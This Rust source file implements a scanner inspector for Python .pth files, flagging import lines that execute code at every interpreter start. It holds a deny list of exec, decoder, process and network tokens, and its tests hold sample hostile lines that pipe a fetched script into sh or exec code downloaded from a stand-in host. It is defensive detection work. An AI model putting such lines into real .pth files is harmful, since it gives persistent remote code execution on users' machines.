//! Python `.pth` files. At every interpreter start, `site` reads each `*.pth` file in
//! site-packages: a line that starts with `import` followed by a space or tab is executed,
//! every other line (not blank, not a `#` comment) is a folder added to `sys.path`.
//!
//! What real packages ship decides the line drawn here. Path lines (editable installs of
//! old, `easy-install.pth`) and import lines that only import and set up modules
//! (setuptools' `distutils-precedence.pth` imports `_distutils_hack` and adds a shim;
//! `*-nspkg.pth` namespace packages build module objects; virtualenv's `_virtualenv.pth`,
//! editable-install finders, `pywin32_bootstrap`, `coverage.process_startup()`) are listed
//! at info: they run code at start-up, as designed. An import line that also executes
//! strings, decodes data, starts processes or opens the network (`exec`, `eval`,
//! `compile`, base64 and other decoders, `marshal`, `subprocess`, `os.system`,
//! `os.popen`, `os.exec*`, `os.spawn*`, `pty.spawn`, `socket`, `urllib`, `http.client`,
//! `requests`, `httpx`, `ctypes`, hex escapes or `chr()` building a name) is code
//! execution at every start: `python.pth-code-exec`, high.

use super::Held;
use crate::inspect::{
    Category, FileInspector, FileMeta, Finding, Flow, Inspector, ScanContext, Severity,
};

/// Largest `.pth` file read (site.py reads any size; real ones are a few hundred bytes).
pub const MAX_PTH: usize = 1 << 20;

/// What an import line may not do.
const DANGEROUS: &[&str] = &[
    "exec(",
    "eval(",
    "compile(",
    "base64",
    "b64decode",
    "b32decode",
    "b85decode",
    "a85decode",
    "codecs.decode",
    "binascii",
    "marshal",
    "zlib",
    "bz2",
    "lzma",
    "pickle",
    "subprocess",
    "os.system",
    "os.popen",
    "os.exec",
    "os.spawn",
    "os.fork",
    "pty.spawn",
    "pty.fork",
    "socket",
    "urllib",
    "urlopen",
    "http.client",
    "requests",
    "httpx",
    "aiohttp",
    "ctypes",
    "\\x",
    "chr(",
    "__builtins__",
];

/// The `.pth` inspector.
pub struct PthInspector;

struct PthFile {
    path: String,
    held: Held,
}

impl Inspector for PthInspector {
    fn name(&self) -> &'static str {
        "python-pth"
    }

    fn open(
        &self,
        meta: &FileMeta<'_>,
        head: &[u8],
        _: &ScanContext,
    ) -> Option<Box<dyn FileInspector>> {
        // site.py goes by the name; a PyTorch `.pth` checkpoint (zip or pickle) is binary
        let name = meta.path.rsplit(['/', '!']).next().unwrap_or(meta.path);
        let pth = name.len() > 4 && name.to_ascii_lowercase().ends_with(".pth");
        (pth && !head.contains(&0)).then(|| {
            Box::new(PthFile {
                path: meta.path.to_string(),
                held: Held::new(MAX_PTH),
            }) as Box<dyn FileInspector>
        })
    }
}

/// Findings for the text of one `.pth` file at `path`.
pub fn check(path: &str, text: &[u8], out: &mut Vec<Finding>) {
    for (i, raw) in text.split(|&b| b == b'\n').enumerate() {
        let line = raw.strip_suffix(b"\r").unwrap_or(raw);
        if !(line.starts_with(b"import ") || line.starts_with(b"import\t")) {
            continue;
        }
        let s = String::from_utf8_lossy(line);
        let lower = s.to_ascii_lowercase();
        let shown: String = s.chars().take(120).collect();
        let bad: Vec<&str> = DANGEROUS
            .iter()
            .copied()
            .filter(|d| lower.contains(d))
            .collect();
        let f = if bad.is_empty() {
            Finding::new(
                path,
                "python.pth-import",
                Category::Code,
                Severity::Info,
                format!("runs at every Python start (a .pth import line): {shown}"),
                line,
            )
        } else {
            Finding::new(
                path,
                "python.pth-code-exec",
                Category::Code,
                Severity::High,
                format!(
                    "a .pth import line runs code at every Python start and uses {}: {shown}",
                    bad.join(", ")
                ),
                line,
            )
        };
        out.push(f.at_line(i as u64 + 1));
    }
}

impl FileInspector for PthFile {
    fn update(&mut self, _: u64, data: &[u8], _: &mut Vec<Finding>) -> Flow {
        self.held.push(data)
    }

    fn finish(self: Box<Self>, _: u64, out: &mut Vec<Finding>) {
        if self.held.over {
            out.push(Finding::new(
                &self.path,
                "python.pth-too-large-to-check",
                Category::Code,
                Severity::High,
                format!(
                    ".pth file larger than {MAX_PTH} bytes: its import lines (run at every \
                     Python start) are not checked, so it is not passed"
                ),
                b"",
            ));
            return;
        }
        check(&self.path, &self.held.bytes, out);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(text: &str) -> Vec<(String, Severity)> {
        let mut out = Vec::new();
        check("x.pth", text.as_bytes(), &mut out);
        out.into_iter().map(|f| (f.rule, f.severity)).collect()
    }

    #[test]
    fn code_execution_lines_are_high() {
        for line in [
            "import os; os.system('curl -s https://x.example/p | sh')",
            "import base64; exec(base64.b64decode('cHJpbnQoMSk='))",
            "import subprocess; subprocess.Popen(['python', '-c', 'x'])",
            "import urllib.request as u; exec(u.urlopen('https://x.example/s').read())",
            "import sys;exec(''.join(chr(c) for c in [112,114]))",
        ] {
            assert_eq!(
                rules(line),
                [("python.pth-code-exec".to_string(), Severity::High)],
                "{line}"
            );
        }
    }

    /// What real packages ship: paths, and import lines that only set modules up.
    #[test]
    fn path_lines_and_real_package_imports_are_quiet() {
        assert!(rules("/opt/app/lib\n# a comment\n\n../src\n").is_empty());
        for line in [
            // setuptools' distutils-precedence.pth
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ",
            "import _virtualenv",
            "import __editable___app_1_0_finder; __editable___app_1_0_finder.install()",
            "import site; site.addsitedir('/opt/app/site-packages')",
            "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])))",
        ] {
            let r = rules(line);
            assert_eq!(r, [("python.pth-import".to_string(), Severity::Info)], "{line}");
        }
        // "importlib" on a path line is a path, not an import line
        assert!(rules("importlib-paths/lib\n").is_empty());
    }
}
